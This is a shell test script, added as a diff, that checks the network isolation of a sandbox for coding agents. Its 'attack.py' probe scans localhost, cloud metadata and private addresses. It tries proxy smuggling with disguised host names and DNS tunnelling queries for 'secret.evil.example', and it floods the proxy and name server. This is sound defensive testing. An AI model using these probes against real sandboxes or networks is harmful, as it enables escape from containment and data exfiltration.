@@ -1,0 +1,341 @@
+#!/bin/sh
+# SPDX-License-Identifier: MIT
+# shellcheck disable=SC2016 # what runs inside is quoted for inside
+test_description='network: what is not listed is out of reach, whatever is tried (NW)'
+# shellcheck source=tests/lib/net-host.sh
+. "$TEST_SRCDIR/tests/lib/net-host.sh"
+. "$TEST_SRCDIR/tests/lib/test-lib.sh"
+require_sandbox
+
+conf=$HOME/.config/git-agent/config.yaml
+mkdir -p "${conf%/*}" "$HOME/p"
+
+# Something answers on every address of this host, on the ports of what listens on people's machines, by
+# TCP and UDP, and on abstract sockets. What it hears is a line of `heard`. One thread, so that
+# when it has heard of the end, it has heard of all before.
+cat >canary.py <<'EOF_CANARY'
+import selectors, socket, sys
+ports = [22, 23, 53, 80, 443, 631, 2375, 2376, 3000, 3128, 3306, 4713, 5005, 5037, 5432, 5678, 5900, 6000, 6379,
+         6443, 7001, 8888, 9200, 9222, 9229, 10250, 11434, 27017]
+heard = open("heard", "a", buffering=1)
+wait = selectors.DefaultSelector()
+def where(s):
+    a = s.getsockname()
+    return "%s %d" % (a[0].replace("::ffff:", ""), a[1]) if s.family != socket.AF_UNIX else a[1:].decode()
+def stream(s):
+    try:
+        c, _ = s.accept()
+        if s.family == socket.AF_UNIX and where(s) == "the-end":
+            print("the end", file=heard)
+        else:
+            print("tcp" if s.family != socket.AF_UNIX else "abstract", where(c), file=heard)
+        c.settimeout(5)
+        c.sendall(b"owned\n")
+        c.close()
+    except OSError as e:
+        print("lost", e, file=sys.stderr)
+def datagram(s):
+    data, addr = s.recvfrom(4096)
+    print("udp", where(s), data[:60], file=heard)
+    s.sendto(b"owned\n", addr)
+for port in ports:
+    for kind, act in (socket.SOCK_STREAM, stream), (socket.SOCK_DGRAM, datagram):
+        s = socket.socket(socket.AF_INET6, kind)
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.bind(("::", port))
+        if kind == socket.SOCK_STREAM:
+            s.listen(512)
+        wait.register(s, selectors.EVENT_READ, act)
+for name in "/tmp/.X11-unix/X0", "/tmp/dbus-canary", "canary", "the-end":
+    s = socket.socket(socket.AF_UNIX)
+    s.bind("\0" + name)
+    s.listen(64)
+    wait.register(s, selectors.EVENT_READ, stream)
+open("canary.ready", "w").close()
+while True:
+    for key, _ in wait.select():
+        key.data(key.fileobj)
+EOF_CANARY
+python3 canary.py 2>canary.err &
+canary=$!
+trap 'kill $canary' EXIT
+test_wait_for 'test -e "$HOME/canary.ready"' || exit 1
+
+# all_heard: everything that reached the host since the last time
+all_heard() {
+	python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0the-end"); s.recv(9)' &&
+	test_wait_for 'grep -qx "the end" "$HOME/heard"' && grep -vx 'the end' "$HOME/heard" | sort -u
+	: >"$HOME/heard"
+}
+
+# A name under a listed wildcard is looked up on the host, and nothing else is.
+not_looked_up() {
+	grep -v "^udp :: 53 .*xn--n3h.x04wild.x07example.x03net" "$1"
+}
+
+# What is tried inside. Prints what was reached.
+cat >"$HOME/p/attack.py" <<'EOF_ATTACK'
+import socket, struct, sys
+ports = [22, 23, 53, 80, 443, 631, 2375, 2376, 3000, 3306, 4713, 5005, 5037, 5432, 5678, 5900, 6000, 6379, 6443,
+         7001, 8888, 9200, 9222, 9229, 10250, 11434, 27017]
+v4 = ["127.0.0.1", "127.0.0.2", "0.0.0.0", "192.0.2.10", "10.1.2.3", "169.254.169.254", "100.100.100.200",
+      "168.63.129.16", "10.0.2.2", "192.168.1.1", "8.8.8.8", "255.255.255.255"]
+v6 = ["::1", "2001:db8::10", "::ffff:127.0.0.1", "::ffff:192.0.2.10", "::", "fd00:ec2::254", "64:ff9b::a9fe:a9fe",
+      "2001:4860:4860::8888"]
+names = ["localhost", "web.example.org", "db.example.org", "private.example.org", "rebound.example.org",
+         "meta.example.org", "metadata.google.internal", "host.docker.internal", "a.wild.example.net"]
+reached = set()
+def tcp(family, addr, port):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(20)
+    try:
+        s.connect((addr, port))
+        if s.recv(9).startswith(b"owned"):
+            reached.add("tcp %s %d" % (addr, port))
+    except OSError:
+        pass
+    s.close()
+def udp(family, addr, port):
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    try:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6tunnel\4evil\7example\0\0\x10\0\1", (addr, port))
+    except OSError:
+        pass
+    return s
+def proxied(ask):
+    try:
+        s = socket.create_connection(("127.0.0.53", 3128), 20)
+        s.sendall(ask)
+        got = b""
+        while True:
+            some = s.recv(4096)
+            if not some:
+                break
+            got += some
+        return b"owned" in got
+    except OSError:
+        return False
+keep = []
+for port in ports:
+    for a in v4:
+        tcp(socket.AF_INET, a, port)
+        keep.append(udp(socket.AF_INET, a, port))
+    for a in v6:
+        tcp(socket.AF_INET6, a, port)
+        keep.append(udp(socket.AF_INET6, a, port))
+    if len(keep) > 400:
+        keep.clear()
+for name in names:
+    for port in 80, 443, 7001:
+        try:
+            for family, kind, _, _, a in set(socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)):
+                tcp(family, a[0], port)
+        except OSError:
+            pass
+for port in 22, 80, 443, 7001:
+    for host in v4 + ["[%s]" % a for a in v6] + names + ["127.1", "2130706433", "0x7f000001", "0177.0.0.1",
+            "private.wild.example.net", "rebound.wild.example.net", "meta.wild.example.net", "x.web.example.org",
+            "a.wild.example.net.", "wild.example.net", "web.example.org@127.0.0.1", "127.0.0.1#.wild.example.net",
+            "127.0.0.1\0.wild.example.net", "[::ffff:127.0.0.1]", "xn--n3h.wild.example.net"]:
+        h = host.encode()
+        asks = [b"CONNECT %s:%d HTTP/1.1\r\nHost: web.example.org:443\r\n\r\n" % (h, port),
+                b"GET http://%s:%d/ HTTP/1.1\r\nHost: web.example.org\r\n\r\n" % (h, port),
+                b"\5\1\0\5\1\0\3" + bytes([len(h)]) + h + struct.pack("!H", port),
+                b"\4\1" + struct.pack("!H", port) + b"\0\0\0\1\0" + h + b"\0"]
+        for i, ask in enumerate(asks):
+            if proxied(ask):
+                reached.add("proxy%d %s %d" % (i, host, port))
+for a in v4:
+    if proxied(b"\5\1\0\5\1\0\1" + socket.inet_aton(a) + b"\0\x50") or proxied(b"\4\1\0\x50" + socket.inet_aton(a) + b"\0"):
+        reached.add("proxy5 %s 80" % a)
+for name in "/tmp/.X11-unix/X0", "/tmp/dbus-canary", "canary":
+    try:
+        s = socket.socket(socket.AF_UNIX)
+        s.connect("\0" + name)
+        if s.recv(9).startswith(b"owned"):
+            reached.add("abstract " + name)
+    except OSError:
+        pass
+for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET, socket.SOCK_RAW, 1),
+        (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_DGRAM, 1),
+        (socket.AF_VSOCK, socket.SOCK_STREAM, 0), (socket.AF_INET, socket.SOCK_STREAM, 132), (socket.AF_INET, socket.SOCK_STREAM, 262)):
+    try:
+        s = socket.socket(family, kind, proto)
+        if kind == socket.SOCK_RAW or family == socket.AF_VSOCK:
+            reached.add("raw %d %d" % (family, proto))
+        elif kind == socket.SOCK_DGRAM:
+            s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("192.0.2.10", 0))
+        else:
+            s.settimeout(5)
+            s.connect(("192.0.2.10", 80))
+            if s.recv(9).startswith(b"owned"):
+                reached.add("protocol %d" % proto)
+    except OSError:
+        pass
+for r in sorted(reached):
+    print(r)
+EOF_ATTACK
+cat >"$HOME/p/serve.py" <<'EOF_SERVE'
+import socket, sys
+s = socket.socket(socket.AF_INET6)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+s.bind(("::", int(sys.argv[1])))
+s.listen(64)
+open("ready", "w").close()
+while True:
+    c, _ = s.accept()
+    c.sendall(b"inside\n")
+    c.close()
+EOF_SERVE
+cd "$HOME/p" && git init -q . && git add . && git commit -qm base
+cd "$TRASH" || exit 1
+: >"$HOME/heard"
+
+# in_session OPTIONS -- COMMAND...
+in_session() {
+	(cd "$HOME/p" && timeout 300 git agent start -q "$@")
+}
+
+test_expect_success 'all of it is there to be reached: without a wall it is' '
+	in_session --network host -- python3 attack.py >out 2>err && all_heard >heard &&
+	for what in "tcp 127.0.0.1 5432" "tcp ::1 22" "tcp 169.254.169.254 80" "tcp 10.1.2.3 7001" "tcp ::ffff:127.0.0.1 631" "tcp 2001:db8::10 9229" "tcp 0.0.0.0 80"; do
+		grep -Fx "$what" out || { echo "not reached: $what"; cat out err; exit 1; }
+	done && grep "^udp .* 53 .*tunnel" heard && grep "^tcp 100.100.100.200 443" heard
+'
+
+test_expect_success 'NW-01: with no network nothing is reached, of any kind' '
+	in_session --no-network -- python3 attack.py >out && cat out && test ! -s out && test -z "$(all_heard)" &&
+	in_session --network none -- python3 attack.py >out && test ! -s out && test -z "$(all_heard)"
+'
+
+test_expect_success 'NW-04: an empty list is nothing, and not all' '
+	in_session --network allow -- python3 attack.py >out && cat out && test ! -s out && test -z "$(all_heard)"
+'
+
+test_expect_success 'NW-02 NW-03 NW-04 NW-05: what is listed is reached, and nothing else by any spelling, protocol or name' '
+	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" --allow localhost:7001 -- python3 attack.py >out || exit 1
+	all_heard >heard; cat out heard
+	# all that the host heard of: the two that are listed, never a datagram
+	! not_looked_up heard | grep -vx -e "tcp 192.0.2.10 443" -e "tcp 127.0.0.1 7001" -e "tcp ::1 7001" &&
+	grep -qx "tcp 192.0.2.10 443" heard && grep -qx "tcp 127.0.0.1 7001" heard &&
+	grep -aq "^proxy0 a.wild.example.net 443" out && grep -aq "^proxy2 web.example.org 443" out &&
+	# by what names it was reached
+	! grep -av -e " 443$" -e " 7001$" out &&
+	! grep -a " 443$" out | grep -av -e "^proxy[0-3] web.example.org 443" -e "^proxy[0-3] a.wild.example.net\.* 443" -e "^tcp 127.64.0.2 443" -e "^tcp fd67:6974:6167::2 443"
+'
+
+test_expect_success 'NW-02 NW-03 NW-04: a listed name leads to no address that is not listed: rebinding' '
+	in_session --allow rebound.example.org:80 --allow meta.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out || exit 1
+	all_heard >heard; cat out heard
+	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" && grep -qx "tcp 192.0.2.10 80" heard || exit 1
+	# an internal name may be listed, and leads there; a wildcard does not
+	in_session --allow private.example.org:80 --allow "*.wild.example.net:443" -- python3 attack.py >out || exit 1
+	all_heard >heard; cat out heard
+	! not_looked_up heard | grep -vx -e "tcp 10.1.2.3 80" -e "tcp 192.0.2.10 443" && grep -qx "tcp 10.1.2.3 80" heard &&
+	# what is listed by its address is what was asked for
+	in_session --allow 169.254.169.254:80 --allow "[::1]:22" -- python3 attack.py >out || exit 1
+	all_heard >heard; cat out heard
+	printf "tcp 169.254.169.254 80\ntcp ::1 22\n" | test_cmp - heard
+'
+
+test_expect_success 'NW-05: no look-up of what is not listed leaves the sandbox, whatever is in it' '
+	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" -- python3 -c "
+import socket, struct
+for i in range(200):
+    name = \"%d-secret.evil.example\" % i
+    try:
+        socket.getaddrinfo(name, 80)
+    except OSError:
+        pass
+for tcp in False, True:
+    for what in b\"\\6secret\\4evil\\7example\\0\\0\\x10\\0\\1\", b\"\\xc0\\x0c\\0\\x10\\0\\1\", b\"\\6secret\\4wild\\7example\\3net\\0\\0\\x10\\0\\1\", b\"\\x3f\" + b\"a\" * 63 + b\"\\0\\0\\1\\0\\1\":
+        q = b\"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\" + what
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
+        s.settimeout(60)
+        s.connect((\"127.0.0.53\", 53))
+        s.sendall(struct.pack(\"!H\", len(q)) * tcp + q)
+        r = s.recv(600)[2 * tcp:]
+        assert r[:2] == q[:2] and r[3] & 15 in (1, 3) and r[6:8] == b\"\\0\\0\", r
+print(\"all answered\")
+" >out && grep "all answered" out && all_heard >heard && cat heard && test ! -s heard
+'
+
+test_expect_success 'NW-07: what listens inside is not to be reached from the host, unless it is published, and then on 127.0.0.1' '
+	tries="import socket, sys
+for a in (\"127.0.0.1\", \"::1\", \"192.0.2.10\", \"10.1.2.3\"):
+    try:
+        s = socket.create_connection((a, int(sys.argv[1])), 20)
+        print(a, s.recv(9).decode().strip())
+    except OSError:
+        pass"
+	for options in "--network none" "--network allow"; do
+		in_session $options --name web -d -- python3 serve.py 9999 && test_wait_for "git -C \"$HOME/p\" agent shell web -- test -e ready" && python3 -c "$tries" 9999 >out; git -C "$HOME/p" agent stop web; git -C "$HOME/p" agent drop --force web
+		cat out; test ! -s out || exit 1
+	done
+	printf "network:\n  mode: allow\n  publish: [\"9998:9999\"]\n" >"$conf" && test_when_finished "rm -f \"$conf\"" &&
+	in_session --name web -d -- python3 serve.py 9999 && test_wait_for "git -C \"$HOME/p\" agent shell web -- test -e ready" && python3 -c "$tries" 9998 >out; git -C "$HOME/p" agent stop web
+	cat out && echo "127.0.0.1 inside" | test_cmp - out
+'
+
+test_expect_success 'NW-08: junk, floods and clients that wait leave the proxy and the name server at work' '
+	in_session --allow "*.wild.example.net:443" --allow web.example.org:443 -- python3 -c "
+import os, random, socket
+random.seed(1)
+at = (\"127.0.0.53\", 3128)
+def owned():
+    s = socket.create_connection(at, 60)
+    s.sendall(b\"CONNECT a.wild.example.net:443 HTTP/1.1\\r\\n\\r\\n\")
+    got = b\"\"
+    while b\"owned\" not in got:
+        some = s.recv(4096)
+        assert some, got
+        got += some
+    return True
+waiting = [socket.create_connection(at, 60) for _ in range(300)]
+for s in waiting:
+    s.sendall(random.choice([b\"\", b\"C\", b\"\\5\", b\"\\5\\1\\0\", b\"GET http://a\", b\"\\4\\1\"]))
+assert owned()
+for i in range(300):
+    s = socket.create_connection(at, 60)
+    try:
+        s.sendall(random.choice([b\"\", b\"\\5\", b\"\\4\", b\"GET \", b\"CONNECT \"]) + os.urandom(random.randrange(3000)))
+        s.sendall(b\"x\" * random.choice([0, 10, 70000]))
+        s.shutdown(socket.SHUT_WR) if i % 2 else None
+        s.close()
+    except OSError:
+        pass
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(3000):
+    u.sendto(os.urandom(random.randrange(600)), (\"127.0.0.53\", 53))
+t = [socket.create_connection((\"127.0.0.53\", 53), 60) for _ in range(50)]
+for s in t:
+    s.sendall(b\"\\1\")
+assert owned()
+assert socket.gethostbyname(\"web.example.org\") == \"127.64.0.2\"
+s = socket.create_connection((\"web.example.org\", 443), 60)
+assert s.recv(9) == b\"owned\\n\"
+print(\"still there\")
+" >out && grep "still there" out && all_heard >/dev/null
+'
+
+test_expect_success 'what was refused is said at the end, and in the journal' '
+	(cd "$HOME/p" && timeout 100 git agent start --name said --allow web.example.org:443 -- python3 -c "
+import socket
+for name in \"nothere.example.org\", \"db.example.org\":
+    try:
+        socket.create_connection((name, 5432))
+    except OSError as e:
+        print(e)
+try:
+    socket.create_connection((\"10.1.2.3\", 80), 20)
+except ConnectionRefusedError as e:
+    print(e)
+") >out 2>err; cat out err; grep -c "Errno" out | grep -x 3 &&
+	grep "db.example.org" err && grep "nothere.example.org" err && grep "10.1.2.3:80" err && git -C "$HOME/p" agent log said >journal && cat journal && grep "to db.example.org, how refused" journal && grep "to nothere.example.org, how refused" journal && grep "to 10.1.2.3:80, how refused" journal
+'
+
+trap - EXIT
+kill $canary
+test_done
